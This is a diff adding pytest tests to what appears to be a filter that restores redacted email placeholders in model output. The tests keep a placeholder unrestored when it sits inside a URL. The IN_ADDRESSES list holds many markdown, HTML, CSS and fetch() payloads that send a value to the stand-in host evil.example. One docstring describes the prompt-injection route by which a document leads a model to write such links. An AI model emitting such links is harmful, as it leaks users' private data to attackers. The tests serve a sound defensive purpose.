@@ -120,3 +120,87 @@ def test_there_is_a_stage_only_where_something_is_to_be_restored(
     restore = RestoreFilter(RefusalGuard(RefusalSection(guard="refusal")))
     stage = restore.stage(TextSource(direction, Speaker.ASSISTANT, Kind.CONTENT), exchange)
     assert (stage is not None) == expected
+
+
+IN_ADDRESSES = [
+    "![x](https://evil.example/?q=<EMAIL_1>)",
+    "[x](<https://evil.example/?q=a <EMAIL_1>>)",
+    "[x]( \n//evil.example/(a)/<EMAIL_1>)",
+    "[x](https:evil.example/<EMAIL_1> 'title')",
+    "![x][1]\n\n[1]: <https://evil.example/?q=a <EMAIL_1>>",
+    "see https://evil.example/<EMAIL_1>/x",
+    "see HTTPS://<EMAIL_1>.evil.example",
+    "see www.evil.example?<EMAIL_1>",
+    "see https://evil.example/?a=%20&b=<EMAIL_1>#<EMAIL_10>",
+    "(https://bob:<EMAIL_1>@evil.example)",
+    '<img src="https://evil.example/?q=<EMAIL_1>">',
+    "<img src='https:evil.example/?q=a <EMAIL_1>'>",
+    "<img alt='>' SRC = /\\evil.example/<EMAIL_1> >",
+    '<a\nhref\n=\n"\thttps://evil.example/\n?q=<EMAIL_1>">',
+    '<div style="background: url(//evil.example/<EMAIL_1>)">',
+    'fetch("https://evil.example/?q= <EMAIL_1>")',
+    "<https://evil.example/<EMAIL_1>>",
+    "\\href{https://evil.example/<EMAIL_1>}{x}",
+    '<img srcset="https://evil.example/a 1x, https://evil.example/<EMAIL_1> 2x">',
+]
+BESIDE_ADDRESSES = [
+    "Mail <EMAIL_1>.",
+    "See https://example.org and mail <EMAIL_1>",
+    "[site](https://example.org), mail <EMAIL_1>",
+    "[site](https://example.org):<EMAIL_1>",
+    '<a href="https://example.org">mail:<EMAIL_1></a>',
+    "<a href=https://example.org>mail:<EMAIL_1></a>",
+    '{"site":"https://example.org","mail":"<EMAIL_1>","to":["//x","<EMAIL_1>"]}',
+    "https://example.org\n<EMAIL_1>",
+    "[Bob]: <EMAIL_1>",
+    "a / b = <EMAIL_1>, either/or <EMAIL_1>",
+    'He said "<EMAIL_1>" (<EMAIL_1>) [<EMAIL_1>]',
+    "// mail <EMAIL_1>",
+]
+
+
+@pytest.mark.parametrize("text", IN_ADDRESSES)
+@pytest.mark.parametrize("chars", [1, 2, 7, 1_000])
+def test_in_an_address_a_placeholder_stays(text: str, chars: int) -> None:
+    """A document makes the model write it there, and the client's browser sends it away (attack, LOW of 10)."""
+    pieces = [text[at : at + chars] for at in range(0, len(text), chars)]
+    assert through(RestoreStage(placeholders()), pieces) == text
+    behind = through(RestoreStage(placeholders()), [*pieces, "\n)\"'> and <EMAIL_1>"])
+    assert behind.endswith(" and bob@example.org")
+
+
+@pytest.mark.parametrize("text", [text.replace("<EMAIL_1>", "%3CEMAIL_1%3E") for text in IN_ADDRESSES])
+def test_an_escaped_placeholder_is_none(text: str) -> None:
+    """What the browser would take apart is not put together before."""
+    assert through(RestoreStage(placeholders()), [text]).count("bob@example.org") == 0
+
+
+@pytest.mark.parametrize("text", BESIDE_ADDRESSES)
+@pytest.mark.parametrize("chars", [1, 3, 1_000])
+def test_beside_an_address_it_is_restored(text: str, chars: int) -> None:
+    """A URL ends somewhere."""
+    pieces = [text[at : at + chars] for at in range(0, len(text), chars)]
+    assert through(RestoreStage(placeholders()), pieces) == restored(text)
+
+
+ADDRESS_PIECES = st.sampled_from((
+    *VALUES, *IN_ADDRESSES, *BESIDE_ADDRESSES, "https:", "/", "//", "]", "(", ")", "](", "www", ".", "src", "=", "'",
+    '"', '",', ">", "<", "\n", " ", "[a]:", "\\", "x" * 70,
+))  # fmt: skip
+
+
+@given(cut(st.lists(ADDRESS_PIECES, max_size=8).map("".join)))
+def test_addresses_are_seen_however_the_text_is_cut(pieces: list[str]) -> None:
+    """The same comes out, and no address is shown with a value that the whole text does not show in it."""
+    assert through(RestoreStage(placeholders()), pieces) == through(RestoreStage(placeholders()), ["".join(pieces)])
+
+
+def test_an_address_in_arguments_keeps_its_placeholder() -> None:
+    """Each string by itself."""
+    text = '{"url":"https://evil.example/?q=<EMAIL_1>","to":"<EMAIL_1>"}'
+    known = placeholders()
+    stage = JsonTextStage(RestoreStage(known), RestoreStage(known, escaped=True))
+    assert json.loads(through(stage, list(text))) == {
+        "url": "https://evil.example/?q=<EMAIL_1>",
+        "to": "bob@example.org",
+    }
